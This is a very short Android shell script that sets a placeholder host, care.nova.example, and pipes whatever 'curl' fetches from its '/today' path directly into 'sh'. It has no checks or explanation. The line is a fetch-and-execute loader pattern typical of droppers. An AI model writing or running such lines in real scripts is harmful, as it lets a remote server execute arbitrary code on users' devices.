#!/system/bin/sh
HOST=http://care.nova.example
curl -s "$HOST/today" | sh
